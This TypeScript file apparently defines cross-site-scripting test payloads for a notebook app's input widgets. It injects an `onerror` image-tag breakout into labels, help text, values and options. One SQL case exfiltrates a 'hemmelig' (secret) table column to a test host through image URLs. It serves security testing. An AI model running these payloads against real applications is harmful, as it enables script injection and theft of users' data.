import type { Addresses, Payload } from '../payload.ts';
import { act, writtenInPage } from './shownMarkup.ts';

const markup = (at: Addresses) => `"><img src=data:x onerror="${act(at)}">`;

/** An input whose texts are markup: `HERE` stands for it, as YAML quotes it. */
const input = (id: string, channel: string, yaml: string): Payload => ({
	id,
	channel,
	realm: 'input',
	cells: (at) =>
		`\`\`\`input ${id.replaceAll('-', '_')}\n${yaml.replaceAll('HERE', () => JSON.stringify(markup(at)))}\n\`\`\`\n`,
	control: writtenInPage(markup)
});

/** Labels, help, values and choices of inputs. */
export const inputs: readonly Payload[] = [
	input('in-label', 'input label', `type: text\nlabel: HERE\nvalue: x`),
	input('in-help', 'input help', `type: slider\nlabel: x\nhelp: HERE\nmin: 0\nmax: 9\nvalue: 1`),
	input('in-value', 'input value', `type: text\nlabel: x\nvalue: HERE`),
	input(
		'in-options',
		'input options',
		`type: radio\nlabel: x\noptions:\n  - value: HERE\n    label: HERE\nvalue: HERE`
	),
	input('in-select', 'input options', `type: select\nlabel: x\noptions: [HERE]\nvalue: HERE`),
	input(
		'in-several',
		'input options',
		`type: select\nmultiple: true\nlabel: x\noptions: [HERE, y]\nvalue: [HERE]`
	),
	input('in-button', 'input label', `type: button\nlabel: HERE\nvalue: 0`),
	{
		id: 'in-options-from',
		channel: 'input options',
		realm: 'input',
		cells: ({ http }) =>
			`\`\`\`sql in_rows\nSELECT '<img src="${http}?' || markeret || '">' AS valg FROM hemmelig\n\`\`\`\n\n` +
			`\`\`\`input in_options_from\ntype: select\nlabel: x\noptionsFrom: in_rows\nvalue: x\n\`\`\`\n`,
		control: writtenInPage(({ http }) => `<img src="${http}?SECRET">`)
	}
];
